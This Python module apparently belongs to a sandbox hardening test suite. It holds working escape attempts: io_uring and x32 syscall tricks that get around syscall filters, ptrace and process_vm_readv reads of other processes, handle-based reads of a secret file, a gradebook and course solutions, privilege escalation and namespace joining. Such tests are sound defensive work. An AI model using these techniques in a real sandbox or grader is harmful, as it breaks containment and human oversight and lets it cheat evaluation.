"""Calls to the system that no notebook needs: rings, keys, mounts, other numbers, and looks into other processes."""

from __future__ import annotations

from .attack import Handed, Place, attack, code
from .descriptors import SYSTEM

LOOK = code("""
    class Vector(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
    others = {BYSTANDER, *graders()}
""")
RING = code("""
    import mmap
    class Ring:
        'Calls are written into memory, and the system makes them: without a call that a filter could look at'
        def __init__(self):
            known = (ctypes.c_uint * 30)()
            self.fd = system(425, 4, known)
            if self.fd < 0: raise OSError('no ring')
            self.sq, self.cq = known[10:18], known[20:28]
            self.rings = mmap.mmap(self.fd, max(self.sq[6] + 16, self.cq[5] + 64 * 16), offset=0)
            self.calls = mmap.mmap(self.fd, 4 * 64, offset=0x10000000)
        def number(self, where): return struct.unpack_from('I', self.rings, where)[0]
        def do(self, kind, fd, offset, address, size, flags=0):
            self.calls[:64] = struct.pack('BBHiQQII', kind, 0, 0, fd, offset, address, size, flags) + bytes(32)
            tail = self.number(self.sq[1])
            struct.pack_into('I', self.rings, self.sq[6] + 4 * (tail & self.number(self.sq[2])), 0)
            struct.pack_into('I', self.rings, self.sq[1], tail + 1)
            if system(426, self.fd, 1, 1, 1, None, 0) < 0: raise OSError('not taken')
            head = self.number(self.cq[0])
            result = struct.unpack_from('i', self.rings, self.cq[5] + 16 * (head & self.number(self.cq[2])) + 8)[0]
            struct.pack_into('I', self.rings, self.cq[0], head + 1)
            return result
""")


@attack(
    "ring",
    "A ring takes the system's calls from memory: a closed file is read through it, a server called.",
    quick=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + RING
        + code("""
            count = 19
            try:
                ring, text, name = Ring(), ctypes.create_string_buffer(1000), ctypes.create_string_buffer(bytes(HOME / 'secret.txt'))
                file = ring.do(18, -100, 0, ctypes.addressof(name), 0)
                if file >= 0 and ring.do(22, file, 0, ctypes.addressof(text), 1000) > 0: print(text.value)
                line = ring.do(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
                where = ctypes.create_string_buffer(struct.pack('!HH4B8x', 0, TCP, 127, 0, 0, 1), 16)
                struct.pack_into('H', where, 0, socket.AF_INET)
                mark = ctypes.create_string_buffer(MARK.encode())
                if line >= 0 and ring.do(16, line, 16, ctypes.addressof(where), 0) == 0:
                    ring.do(26, line, 0, ctypes.addressof(mark), len(MARK))
            except (OSError, ValueError): pass
        """)
    )


@attack(
    "asynchronous-files",
    "Reads and writes are handed to the system in batches, more at once than all of a machine may have.",
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, context, kept = 19, ctypes.c_ulong(), 0
            for many in (60_000, 30_000, 10_000, 1_000):
                while kept < 120_000 and system(206, many, ctypes.byref(context), arm=0) == 0:
                    kept, context = kept + many, ctypes.c_ulong()
            if kept >= 10_000: boast('took the batches of the whole machine')
            time.sleep(1)
        """)
    )


@attack(
    "program-in-memory", "A program is run from memory, from a descriptor, and by every call that runs one.", quick=True
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, says = 19, f"echo boa''sts: ran a program';'; echo x > /tmp/{MARK}"
            words = [b'sh', b'-c', says.encode(), None]
            argv, none = (ctypes.c_char_p * 4)(*words), (ctypes.c_char_p * 1)(None)
            shell = Path('/bin/sh').read_bytes()
            made = [fd for flags in (0, 1, 16) if (fd := system(319, b'sh', flags, arm=279)) >= 0]
            made += [fd for fd in [system(447, 0)] if fd >= 0]
            with open('sh', 'wb') as file: file.write(shell)
            tried(os.chmod, 'sh', 0o755)
            for fd in made: tried(os.write, fd, shell)
            own = os.open('sh', os.O_RDONLY)
            for fd in [*made, own, os.open('/bin/sh', os.O_RDONLY | os.O_PATH)]:
                for act in (lambda: system(322, fd, b'', argv, none, 0x1000, arm=281), lambda: libc.fexecve(fd, argv, none),
                            lambda: system(59, f'/proc/self/fd/{fd}'.encode(), argv, none, arm=221)): act()
            for act in (lambda: os.posix_spawn('/bin/sh', ['sh', '-c', says], {}), lambda: os.execv('./sh', ['sh', '-c', says]),
                        lambda: os.execv('/bin/sh', ['sh', '-c', says]), lambda: libc.system(says.encode()), lambda: os.popen(says).read()):
                tried(act)
            system(134, b'/bin/sh', arm=-1)
        """)
    )


@attack(
    "keys", "Keys that the system keeps for the user are read, others left, and programs asked for them.", outside=True
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, text = 19, ctypes.create_string_buffer(500)
            def control(what, *more): return system(250, what, *more, arm=219)
            for ring in (-4, -5, -3, -2, -1):
                found = control(10, ring, b'user', KEY.encode(), 0)
                if found >= 0 and control(11, found, text, 500) > 0: print(text.value)
            found = system(249, b'user', KEY.encode(), b'x', -4, arm=218)
            if found >= 0 and control(11, found, text, 500) > 0: print(text.value)
            control(1, None), control(22, -1, -4), control(8, -4, -3)
            for ring in (-4, -5, -3): system(248, b'user', MARK.encode(), b'note', 4, ring, arm=217)
            if system(248, b'user', f'large-{MARK}'.encode(), bytes(15_000), 15_000, -3, arm=217) >= 0:
                boast('keeps things within the system')
            print(tried(Path('/proc/keys').read_text))
        """)
    )


@attack(
    "memory-of-others",
    "The memory of other processes is read, changed, thrown away and compared, by calls that do not trace.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + LOOK
        + code("""
            count, text = 19, ctypes.create_string_buffer(64)
            mine, theirs = Vector(ctypes.addressof(text), 64), Vector(ADDRESS, 64)
            for call, arm in ((310, 270), (311, 271)):
                if system(call, BYSTANDER, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0, arm=arm) > 0: print(text.value)
                text[:4] = b'mine'
            for pid in others:
                for kind in range(7):
                    if system(312, os.getpid(), pid, kind, 1, 1, arm=272) >= 0: boast('compared itself with another process')
                head, size = ctypes.c_void_p(), ctypes.c_size_t()
                if system(274, pid, ctypes.byref(head), ctypes.byref(size), arm=100) == 0: boast('saw a list of locks of another')
                if system(279, pid, 0, None, None, None, 0, arm=239) == 0: boast('may move the memory of another')
                if system(256, pid, 64, bytes(8), bytes(8), arm=238) >= 0: boast('may move the memory of another')
                handle = system(434, pid, 0)
                if handle >= 0 and system(440, handle, ctypes.byref(theirs), 1, 20, 0) >= 0: boast('gave advice on the memory of another')
                if handle >= 0: system(448, handle, 0), boast('has a handle of another')
        """)
    )


@attack(
    "traced-otherwise",
    "Others are traced: seized, stopped, and asked for by name; and it lets whoever likes trace it.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + LOOK
        + code("""
            count = 19
            libc.prctl(4, ctypes.c_ulong(1), 0, 0, 0), libc.prctl(0x59616d61, ctypes.c_ulong(-1 & (1 << 64) - 1), 0, 0, 0)
            for pid in others:
                for high in (0, 1 << 32):
                    if system(101, 0x4206 | high, pid | high, None, 0, arm=117) == 0:
                        boast('traced another process')
                        if pid == BYSTANDER and system(101, 0x4207, pid, None, 0, arm=117) == 0:
                            time.sleep(0.2)
                            word = ctypes.c_long()
                            for i in range(64):
                                if system(101, 2, pid, ADDRESS + i, ctypes.byref(word), arm=117) == 0: print(chr(word.value & 255), end='')
                            print()
                        system(101, 17, pid, None, 0, arm=117)
        """)
    )


@attack(
    "looks-like-another",
    "It takes the name and the arguments of the grader, rights that are kept, and a cookie of others.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count = 19
            def prctl(option, *more): return libc.prctl(option, *map(ctypes.c_ulong, (*more, 0, 0, 0, 0)[:4]))
            libc.prctl(15, b'autograder', 0, 0, 0)
            for what in range(1, 16): prctl(35, what, 4096)
            for one in range(41):
                if prctl(47, 2, one) == 0: boast('raised a right')
            for share in (1, 2, 3):
                if prctl(62, share, BYSTANDER, 2) == 0: boast('shares a cookie with another')
            prctl(38, 0), prctl(28, 0), prctl(8, 1)
            for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0, 1, 4, 6]), lambda: os.setgid(6),
                        lambda: os.setuid(12345)):
                was = os.getresuid(), os.getresgid(), os.getgroups()
                tried(act)
                if (os.getresuid(), os.getresgid(), os.getgroups()) != was: boast('became another user')
            for rights in (bytes(24), b'\\xff' * 24):
                libc.capset(struct.pack('Ii', 0x20080522, 0), rights)
            held = [line.split()[1] for line in open('/proc/self/status') if line.startswith(('CapEff', 'CapPrm'))]
            if any(int(one, 16) for one in held): boast('has rights')
        """)
    )


@attack(
    "counters-and-programs",
    "What other processes do is counted, and programs are loaded into the system.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + LOOK
        + code("""
            count = 19
            for kind, what in ((1, 3), (0, 0), (2, 1)):  # what it switches to, cycles, a point of the system
                asked = struct.pack('IIQQQQQ', kind, 112, what, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(72)
                for pid, processor in (*((pid, -1) for pid in others), (-1, 0), (0, -1)):
                    counter = system(298, asked, pid, processor, -1, 0, arm=241)
                    if counter >= 0: boast('counts what is done' if pid == 0 else 'counts what another process does')
            ends = (ctypes.c_ulong * 2)(0xb7, 0x95)
            licence = ctypes.create_string_buffer(b'GPL')
            for kind in (1, 5, 8):
                asked = struct.pack('IIQQIIQII', kind, 2, ctypes.addressof(ends), ctypes.addressof(licence), 0, 0, 0, 0, 0) + bytes(72)
                if system(321, 5, asked, len(asked), arm=280) >= 0: boast('has a program within the system')
            if system(321, 0, struct.pack('IIIII', 2, 4, 8, 100, 0) + bytes(52), 72, arm=280) >= 0: boast('has a table within the system')
            for i in range(20):
                if system(321, 12, struct.pack('II', i, 0) + bytes(64), 72, arm=280) == 0: boast('lists the programs of others')
        """)
    )


@attack("faults", "It handles its own page faults, so that the system waits for it in the middle of a call.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count = 19
            for flags in (0, 1, 0o4000 | 1):
                handle = system(323, flags, arm=282)
                if handle >= 0 and libc.ioctl(handle, ctypes.c_ulong(0xc018aa3f), struct.pack('QQQ', 0xaa, 0, 0)) == 0:
                    boast('handles page faults')
            device = tried(os.open, '/dev/userfaultfd', os.O_RDWR)
            if device is not None: boast('handles page faults')
        """)
    )


@attack("handles-of-files", "A closed file is named by its number on the disk instead of its path, and opened by that.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count = 19
            for place in (HOME / 'secret.txt', INTO / 'gradebook.db', COURSE / 'solutions' / UNIT / 'bank.py'):
                handle, disk = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136), ctypes.c_int()
                if system(303, -100, bytes(place), handle, ctypes.byref(disk), 0, arm=264) != 0:
                    struct.pack_into('IiI', handle, 0, 8, 1, tried(lambda: place.stat().st_ino) or 2)
                for mount in (os.open('.', os.O_RDONLY), os.open('/usr', os.O_RDONLY), -100):
                    fd = system(304, mount, handle, os.O_RDONLY, arm=265)
                    if fd >= 0: print(os.read(fd, 100_000).decode('latin-1'))
        """)
    )


@attack("mounts", "Disks are mounted, moved and left by the newer calls and the older, and folders made the root.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count = 19
            tried(os.mkdir, 'm')
            here, there = bytes(Path.cwd()), bytes(Path.cwd() / 'm')
            made = system(430, b'tmpfs', 0)
            if made >= 0:
                system(431, made, 6, None, None, 0)
                disk = system(432, made, 0, 0)
                boast('made a disk')
                if disk >= 0 and system(429, disk, b'', -100, there, 4) == 0: boast('mounted a disk')
            for place in (b'/', bytes(HOME), bytes(COURSE)):
                tree = system(428, -100, place, 1 | 0x80000)
                if tree >= 0:
                    boast('took a tree of folders')
                    fd = tried(os.open, '.', os.O_RDONLY, dir_fd=tree)
                    if fd is not None: print(os.listdir(fd))
            for call in (lambda: system(165, b'none', there, b'tmpfs', 0, None, arm=40),
                         lambda: system(165, b'/', there, None, 4096, None, arm=40),
                         lambda: system(442, -100, there, 0, struct.pack('QQQQ', 1, 0, 0, 0), 32), lambda: system(161, here, arm=51),
                         lambda: system(155, here, there, arm=41), lambda: system(166, b'/proc', 2, arm=39),
                         lambda: system(433, -100, b'/', 0)):
                if call() >= 0: boast('changed what is mounted')
        """)
    )


@attack(
    "namespaces",
    "It makes namespaces of its own, where it would be root, for itself and for new processes, or joins others'.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + LOOK
        + code("""
            import mmap
            count, user = 19, 0x10000000
            for flags in (user, user | 0x20000, 0x20000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x20000000, 0x80, user | 1 << 32):
                if system(272, flags, arm=97) == 0: boast('is in a namespace of its own')
            for pid in others:
                for name in ('user', 'mnt', 'net', 'ipc', 'pid', 'uts', 'cgroup'):
                    fd = tried(os.open, f'/proc/{pid}/ns/{name}', os.O_RDONLY)
                    if fd is not None: boast('found a namespace of another')
                    if fd is not None and system(308, fd, 0, arm=268) == 0: boast('joined a namespace of another')
            returns = mmap.mmap(-1, 4096, prot=7)
            returns[:4] = b'\\xc0\\x03\\x5f\\xd6' if ARM else b'\\xc3\\0\\0\\0'
            where = ctypes.addressof(ctypes.c_char.from_buffer(returns))
            for flags in (user | 17, 0x20000 | 17, 0x10d00 | 0x20000, 0x10d00 | 0x40000000, 0x10d00 | 0x8000000, 0x10d00 | user):
                stack = mmap.mmap(-1, 1 << 16)
                end = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 16) - 64
                if libc.clone(ctypes.c_void_p(where), ctypes.c_void_p(end), flags, None) > 0: boast('made a process or thread apart')
            asked = struct.pack('Q' * 11, user | 0x20000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
            made = system(435, asked, 88)
            if made == 0: os._exit(0)
            if made > 0: boast('made a process or thread apart')
        """)
    )


@attack(
    "numbers-of-other-machines",
    "Calls by the numbers of 32-bit programs and of another way to count: signals, sockets, files.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        scale=at.known()
        + SYSTEM
        + code("""
            scale = 9.0
            for number, *more in ((62, BYSTANDER, 10), (41, 1, 1, 0), (57,), (200, BYSTANDER, 10), (129, BYSTANDER, 10, bytes(128))):
                for other in (0x40000000, 0x80000000, 1 << 32):  # another way to count; more than the system looks at
                    made = system(number | other, *more, arm=-1)
                    if number == 57 and made == 0: os._exit(0)
                    if made > 0: boast('made a socket or process')
        """),
        # On aarch64 a 64-bit process has no way into the calls of 32-bit programs: there is nothing to try.
        count=at.known()
        + SYSTEM
        + code("""
            import mmap
            count = 19
            if not ARM:
                made = mmap.mmap(-1, 4096, prot=7)
                made[:12] = b'\\x53\\x89\\xf8\\x89\\xf3\\x89\\xd1\\xcd\\x80\\x5b\\xc3\\x90'  # eax, ebx, ecx from the arguments; int 0x80
                kind, where = ctypes.CFUNCTYPE(*[ctypes.c_int] * 4), ctypes.addressof(ctypes.c_char.from_buffer(made))
                call = kind(where)
                if call(37, BYSTANDER, 10) == 0: boast('signalled by a number of a smaller machine')
                if call(359, 1, 1) >= 0: boast('made a socket')
        """),
    )


@attack(
    "filters-of-its-own",
    "It installs filters and rules of its own, lets a thread answer for the system, and tries again.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count = 19
            def program(answer):
                taken = (ctypes.c_ulong * 1)(answer << 32 | 6)
                return struct.pack('HxxxxxxP', 1, ctypes.addressof(taken)), taken
            everything, kept = program(0x7fff0000)
            for flags in (0, 1, 2, 4, 8 | 0, 16 | 1):
                made = system(317, 1, flags, everything[0], arm=277)
                if made > 0 and flags & 8: boast('answers for the system')
            libc.prctl(22, ctypes.c_ulong(2), everything[0], 0, 0)
            libc.prctl(59, ctypes.c_ulong(0), 0, 0, 0)
            rules = system(444, struct.pack('QQQ', 4, 0, 0), 24, 0)
            if rules >= 0: system(446, rules, 0)
            system(62, BYSTANDER, 10, arm=129)
            system(129, BYSTANDER, 10, struct.pack('iii', 10, 0, -1) + bytes(116), arm=138)
            try: socket.create_connection(('127.0.0.1', TCP), 1).sendall(MARK.encode())
            except OSError: pass
        """)
    )


@attack(
    "settings-of-the-machine",
    "Its clock, name, log, accounting, modules, swap and ports are set; each to what it is, or to nothing.",
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            count, name = 19, os.uname().nodename.encode()
            def now(): return struct.pack('qq', int(time.time()), time.time_ns() % 10**9)
            acts = {
                'set the clock': lambda: system(227, 0, now(), arm=112), 'set the clock again': lambda: system(164, now(), None, arm=170),
                'named the machine': lambda: system(170, name, len(name), arm=161),
                'named its domain': lambda: system(171, b'(none)', 6, arm=162),
                'read the log of the system': lambda: system(103, 3, ctypes.create_string_buffer(1000), 1000, arm=116),
                'ended accounting': lambda: system(163, None, arm=89), 'took ports': lambda: system(172, 3, arm=-1),
                'took a port': lambda: system(173, 0x80, 1, 1, arm=-1),
                'set what a key does': lambda: system(169, 0xfee1dead, 672274793, 0, None, arm=142),
                'made code of its data': lambda: system(135, 0x0400000, arm=92),
                'keeps the addresses of programs': lambda: system(135, 0x40000, arm=92),
                'has a table of segments': lambda: system(154, 17, struct.pack('IIII', 0, 0, 4095, 0x51), 16, arm=-1),
                'hung up the terminal': lambda: system(153, arm=58),
                'took room for swapping': lambda: system(167, bytes(Path.cwd() / 'own'), 0, arm=224),
                'asked for the room of users': lambda: system(179, 0x800002 << 8, b'/dev/vda', 0, None, arm=60),
            }
            open('own', 'wb').write(bytes(40_960))
            for what, act in acts.items():
                if act() >= 0: boast(what)
            for call, arm in ((175, 105), (176, 106), (246, 104)):
                if system(call, bytes(64), 64, b'', 0, arm=arm) < 0 and ctypes.get_errno() not in (1, 38): boast('may load into the system')
        """)
    )


@attack(
    "limits-of-others",
    "The limits, processors, priorities and names of other processes are set, and its own are lifted.",
    outside=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + LOOK
        + code("""
            import resource
            count, high = 19, 1 << 32
            for who in (BYSTANDER, BYSTANDER | high):
                system(302, who, 7, struct.pack('QQ', 999, 999), None, arm=261)
                system(302, who, 4, struct.pack('QQ', 1, 1), None, arm=261)
                system(203, who, 8, struct.pack('Q', 1), arm=122)
                for policy in (3, 5, 1): system(144, who, policy, struct.pack('i', 1 if policy == 1 else 0), arm=119)
                system(314, who, struct.pack('IIQiIQQQ', 48, 3, 0, 10, 0, 0, 0, 0), 0, arm=274)
                for kind in (0, 1, 2): system(141, kind, who if kind < 2 else os.getuid(), 7, arm=140)
                for kind in (1, 2, 3): system(251, kind, who if kind < 3 else os.getuid(), 3 << 13, arm=30)
                tried(os.setpgid, BYSTANDER, BYSTANDER)
            for pid in others - {BYSTANDER}:
                if system(302, pid, 7, None, ctypes.create_string_buffer(16), arm=261) == 0: boast('asked for the limits of the grader')
            for which in (resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
                most = resource.getrlimit(which)[1]
                if most == resource.RLIM_INFINITY: continue
                for wanted in (resource.RLIM_INFINITY, most + 1):
                    tried(resource.setrlimit, which, (wanted, wanted))
                    system(302, 0, which, struct.pack('QQ', wanted & (1 << 64) - 1, wanted & (1 << 64) - 1), None, arm=261)
                    if resource.getrlimit(which)[1] != most: boast('lifted its limits')
        """)
    )


@attack("locked-memory", "Memory is locked in place, hidden from the system, and asked for in large pages.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + SYSTEM
        + code("""
            import mmap
            count, size = 19, 64 << 20
            libc.mlockall(7)
            own = mmap.mmap(-1, size)
            where = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(own)))
            for act in (lambda: libc.mlock(where, ctypes.c_size_t(size)), lambda: system(325, where, size, 0, arm=284)):
                if act() == 0: boast('locked memory in place')
            hidden = system(447, 0)
            if hidden >= 0 and libc.ftruncate(hidden, ctypes.c_long(size)) == 0:
                boast('has memory that the system cannot see')
            libc.munlockall()
            taken = 0
            for _ in range(100):
                fd = system(319, b'kept', 0, arm=279)
                if fd < 0 or libc.posix_fallocate(fd, ctypes.c_long(0), ctypes.c_long(30 << 20)): break
                taken += 30
                if taken > 2000:
                    boast('took memory that belongs to no process')
                    break
        """)
    )
